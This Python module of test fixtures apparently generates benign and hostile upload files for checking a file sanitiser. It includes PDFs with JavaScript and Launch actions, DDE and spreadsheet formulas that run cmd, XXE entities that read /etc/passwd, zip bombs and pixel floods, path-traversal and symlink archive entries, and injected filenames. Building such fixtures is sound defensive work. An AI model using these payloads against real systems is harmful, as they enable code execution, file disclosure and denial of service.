"""Files to send: honest ones with a canary in every place for metadata, and hostile ones."""

import io
import stat
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

CANARY = "KANAREK-52.2297N-Jan-Autor"
SCRIPT = "<script>alert('kanarek')</script>"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def picture(form, size=(40, 30), **options):
    """A picture whose EXIF, comments and text chunks hold the canary; the upper half red, the lower blue."""
    image = Image.new("RGB", size, (200, 0, 0))
    image.paste((0, 0, 200), (0, size[1] // 2, *size))
    exif = image.getexif()
    exif[0x010F] = exif[0x013B] = exif[0x8298] = CANARY
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 13.0, 46.9), 29: CANARY})
    exif[0x0112] = options.pop("orientation", 1)
    if form == "PNG":
        told = PngInfo()
        told.add_text("Author", CANARY)
        told.add_itxt("XML:com.adobe.xmp", f"<x>{CANARY}</x>")
        options["pnginfo"] = told
    if form == "JPEG":
        options["comment"] = CANARY.encode()
    if form in {"JPEG", "WEBP"}:
        options["xmp"] = f"<x>{CANARY}</x>".encode()
    written = io.BytesIO()
    image.save(written, form, exif=exif, **options)
    return written.getvalue()


def flood(width=10_000, height=10_000):
    """A PNG of 100 million pixels in a few kilobytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packed = zlib.compressobj(9)
    rows = b"".join(packed.compress(bytes(width // 8 + 1)) for _ in range(height)) + packed.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(change=lambda made: None, **options):
    """A PDF of one page with a picture; `change` adds something to it."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 300))
    page = made.pages[0]
    scan = made.make_stream(picture("JPEG"))
    scan.update({"/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 40, "/Height": 30})
    scan.update({"/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8})
    scan["/Filter"] = pikepdf.Name.DCTDecode
    page.obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=scan))
    page.obj["/Contents"] = made.make_stream(b"q 100 0 0 100 50 50 cm /Scan Do Q")
    page.obj["/PieceInfo"] = pikepdf.Dictionary(X=pikepdf.String(CANARY))
    made.docinfo["/Author"] = CANARY
    with made.open_metadata() as told:
        told["dc:creator"] = [CANARY]
    change(made)
    written = io.BytesIO()
    made.save(written, **options)
    return written.getvalue()


def action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(kind), **more)


def with_script(made):
    made.Root["/OpenAction"] = action("/JavaScript", JS=pikepdf.String("app.alert('kanarek')"))


def with_names_script(made):
    inner = action("/JavaScript", JS=pikepdf.String("app.alert('kanarek')"))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), inner]))
    made.Root["/Names"] = pikepdf.Dictionary(JavaScript=tree)


def with_launch(made):
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([0, 0, 99, 99]),
        A=action("/Launch", F=pikepdf.String("cmd.exe")),
    )
    made.pages[0].obj["/Annots"] = made.make_indirect(pikepdf.Array([made.make_indirect(link)]))


def with_page_action(made):
    made.pages[0].obj["/AA"] = pikepdf.Dictionary(
        O=action("/URI", URI=pikepdf.String("http://gdzie.example/"))
    )


def with_file(made):
    made.attachments["wirus.exe"] = b"MZ" + CANARY.encode()


def with_xfa(made):
    made.Root["/AcroForm"] = pikepdf.Dictionary(
        Fields=pikepdf.Array([]), XFA=made.make_stream(f"<xdp>{CANARY}</xdp>".encode())
    )


def with_dynamic_form(made):
    with_xfa(made)
    made.Root["/NeedsRendering"] = True


def with_signature(made):
    value = pikepdf.Dictionary(Type=pikepdf.Name.Sig, Contents=pikepdf.String("podpis"))
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, T=pikepdf.String("Podpis"), V=value)
    made.Root["/AcroForm"] = pikepdf.Dictionary(Fields=pikepdf.Array([made.make_indirect(field)]))


def signed_with_script(made):
    with_signature(made)
    with_script(made)


def packed(parts, **options):
    """A ZIP of parts by name; a list of pairs may hold a name twice."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, **options) as made:
        for name, data in parts.items() if isinstance(parts, dict) else parts:
            made.writestr(name, data)
        made.comment = CANARY.encode()
    return written.getvalue()


def symlink(name):
    """Head of a ZIP entry that unpacks to a symbolic link."""
    head = zipfile.ZipInfo(name)
    head.external_attr = (stat.S_IFLNK | 0o777) << 16
    return head


def docx(text="", **parts):
    """A DOCX with authors in its properties and a picture with EXIF; `parts` are added or replaced."""
    body = f"<w:body><w:p><w:r><w:t>Treść</w:t></w:r>{text}</w:p></w:body>"
    main = f'<w:document xmlns:w="{WORD}">{body}</w:document>'
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": f"<Relationships {NS}/>",
            "word/document.xml": main,
            "word/media/image1.jpeg": picture("JPEG"),
            "docProps/core.xml": f"<cp:coreProperties xmlns:cp='x'><a>{CANARY}</a></cp:coreProperties>",
            "docProps/app.xml": f"<Properties><Company>{CANARY}</Company></Properties>",
            "docProps/custom.xml": f"<Properties><x>{CANARY}</x></Properties>",
            "docProps/thumbnail.jpeg": picture("JPEG"),
        }
        | {name.replace("__", "/"): data for name, data in parts.items()}
    )


def relation(kind, target):
    rels = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships {NS}>{rels}</Relationships>"


def xlsx(formula="SUM(A1)", **parts):
    sheet = f"<worksheet xmlns='x'><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return packed(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": "<workbook xmlns='x'/>",
            "xl/worksheets/sheet1.xml": sheet,
            "docProps/core.xml": f"<p><a>{CANARY}</a></p>",
        }
        | {name.replace("__", "/"): data for name, data in parts.items()}
    )


def odt(body="", **parts):
    spaces = 'xmlns:office="o" xmlns:draw="d" xmlns:script="s" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f"<office:document-content {spaces}>{body}</office:document-content>",
            "meta.xml": f"<office:document-meta xmlns:office='o'><a>{CANARY}</a></office:document-meta>",
            "META-INF/manifest.xml": "<m/>",
        }
        | {name.replace("__", "/"): data for name, data in parts.items()}
    )


BOMB = bytes(60 * 1024 * 1024)

HONEST = {
    "zdjecie.jpg": lambda: picture("JPEG"),
    "zdjecie-bokiem.jpeg": lambda: picture("JPEG", orientation=6),
    "skan.png": lambda: picture("PNG"),
    "telefon.webp": lambda: picture("WEBP"),
    "decyzja.pdf": pdf,
    "umowa.docx": docx,
    "odnosnik.docx": lambda: docx(
        **{"word___rels__document.xml.rels": relation("hyperlink", "https://gov.pl/")}
    ),
    "koszty.xlsx": xlsx,
    "pismo.odt": odt,
    "notatka.txt": "Zażółć gęślą jaźń\r\n".encode,
    "stara-notatka.txt": lambda: "Zażółć gęślą jaźń".encode("cp1250"),
}
# Taken, because what was hostile is gone or never runs.
DISARMED = {
    "skrypt.pdf": lambda: pdf(with_script),
    "nazwany-skrypt.pdf": lambda: pdf(with_names_script),
    "uruchom.pdf": lambda: pdf(with_launch),
    "strona-dziala.pdf": lambda: pdf(with_page_action),
    "plik-w-srodku.pdf": lambda: pdf(with_file),
    "xfa.pdf": lambda: pdf(with_xfa),
    "html-przed.pdf": lambda: f"<html>{SCRIPT}\n".encode() + pdf(),
    "html-po.pdf": lambda: pdf() + f"\n<html>{SCRIPT}".encode(),
    "zip-po.jpg": lambda: picture("JPEG") + packed({"x.html": SCRIPT}),
    "skrypt-po.png": lambda: picture("PNG") + SCRIPT.encode(),
    "skrypt-po.webp": lambda: picture("WEBP") + SCRIPT.encode(),
    "html.txt": f"<html>{SCRIPT}</html>".encode,
}
REFUSED = {
    "rysunek.svg": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode,
    "strona.html": SCRIPT.encode,
    "strona.xhtml": SCRIPT.encode,
    "skrypt.js": lambda: b"alert(1)",
    "program.exe": lambda: b"MZ" + bytes(100),
    "umowa.pdf.exe": lambda: b"MZ" + bytes(100),
    "skrot.lnk": lambda: b"L\0\0\0" + bytes(100),
    "archiwum.zip": lambda: packed({"a.txt": "a"}),
    "makra.docm": docx,
    "stary.doc": lambda: b"\xd0\xcf\x11\xe0" + bytes(600),
    "iphone.heic": lambda: bytes(4) + b"ftypheic" + bytes(100),
    "obraz.gif": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "bez-rozszerzenia": lambda: picture("JPEG"),
    "svg-jako.png": f"<svg>{SCRIPT}</svg>".encode,
    "html-jako.pdf": f"<html>{SCRIPT}</html>".encode,
    "html-jako.jpg": SCRIPT.encode,
    "gif-jako.jpg": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "exe-jako.docx": lambda: b"MZ" + bytes(100),
    "zip-jako.docx": lambda: packed({"a.txt": "a"}),
    "xlsx-jako.docx": xlsx,
    "avi-jako.webp": lambda: b"RIFF" + bytes(4) + b"AVI " + bytes(100),
    "binarny.txt": lambda: b"MZ\x90\0\x03\0",
    "pusty.pdf": lambda: b"",
    "uciety.jpg": lambda: picture("JPEG", size=(400, 400))[:900],
    "uciety.png": lambda: picture("PNG", size=(400, 400))[:-60],
    "uciety.pdf": lambda: b"%PDF-1.7\n1 0 obj",
    "uciety.docx": lambda: docx()[:-300],
    "potop.png": flood,
    "potop-klamany.jpg": lambda: picture("JPEG").replace(
        struct.pack(">HH", 30, 40), struct.pack(">HH", 60_000, 60_000), 1
    ),
    "haslo.pdf": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "haslo-wlasciciela.pdf": lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "formularz-xfa.pdf": lambda: pdf(with_dynamic_form),
    "podpis-i-skrypt.pdf": lambda: pdf(signed_with_script),
    "bomba.docx": lambda: docx(**{"word/document.xml": BOMB}),
    "bomba.xlsx": lambda: xlsx(**{"xl/worksheets/sheet2.xml": BOMB, "xl/worksheets/sheet3.xml": BOMB}),
    "tysiace.docx": lambda: docx(**{f"word/x{n}.xml": "<x/>" for n in range(2100)}),
    "w-srodku.docx": lambda: docx(**{"word/x.zip": packed({"y.zip": packed({"z": BOMB})})}),
    "encje.docx": lambda: docx(
        **{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}
    ),
    "encja-z-pliku.docx": lambda: docx(
        **{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}
    ),
    "makro.docx": lambda: docx(**{"word/vbaProject.bin": b"x"}),
    "makro-w-typach.docx": lambda: docx(**{"[Content_Types].xml": "<Types a='macroEnabled'/>"}),
    "szablon.docx": lambda: docx(
        **{"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://gdzie.example/x.dotm")}
    ),
    "obraz-z-sieci.docx": lambda: docx(
        **{"word/_rels/document.xml.rels": relation("image", "http://gdzie.example/x.png")}
    ),
    "odnosnik-plik.docx": lambda: docx(
        **{"word/_rels/document.xml.rels": relation("hyperlink", "file://gdzie.example/x")}
    ),
    "obiekt.docx": lambda: docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "activex.docx": lambda: docx(**{"word/activeX/activeX1.xml": "<x/>"}),
    "altchunk.docx": lambda: docx(**{"word/afchunk.html": SCRIPT}),
    "dde.docx": lambda: docx('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'),
    "dde-w-kawalkach.docx": lambda: docx(
        "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r>"
    ),
    "odwolanie.xlsx": lambda: xlsx(**{"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "dde.xlsx": lambda: xlsx("cmd|' /C calc'!A0"),
    "siec.xlsx": lambda: xlsx('WEBSERVICE("http://gdzie.example/")'),
    "makro4.xlsx": lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}),
    "makro.odt": lambda: odt(**{"Basic/Standard/Module1.xml": "<x/>"}),
    "zdarzenie.odt": lambda: odt("<script:event-listener/>"),
    "obraz-z-sieci.odt": lambda: odt('<draw:image xlink:href="http://gdzie.example/x.png"/>'),
    "sciezka.odt": lambda: odt(**{"../../etc/cron.d/x": "x"}),
    "dowiazanie.docx": lambda: packed([("word/document.xml", "<a/>"), (symlink("word/x"), "/etc/passwd")]),
    "dwa-razy.docx": lambda: packed([("word/document.xml", "<a/>"), ("word/document.xml", "<b/>")]),
    "za-duzy.pdf": lambda: b"%PDF-" + bytes(21 * 1024 * 1024),
}
NAMES = [
    "../../etc/passwd.txt", "..\\..\\windows\\x.txt", "C:\\Users\\Jan\\x.txt", "/etc/x.txt", "a\0b.txt",
    "umowa\u202etxt.exe.txt", "a\r\nSet-Cookie: x=1.txt", "x" * 300 + ".txt", ".txt", "con.txt",
    "a;b\"c'.txt", "<img src=x onerror=alert(1)>.txt", "faktura.exe.txt", "zażółć gęślą.txt", "文件.txt",
    "\u202e.txt", "a%00b.txt", "x\u200b\ufeffy.txt", "a\u2028b.txt", "~$x.txt", "=cmd|'!A0.txt",
]  # fmt: skip
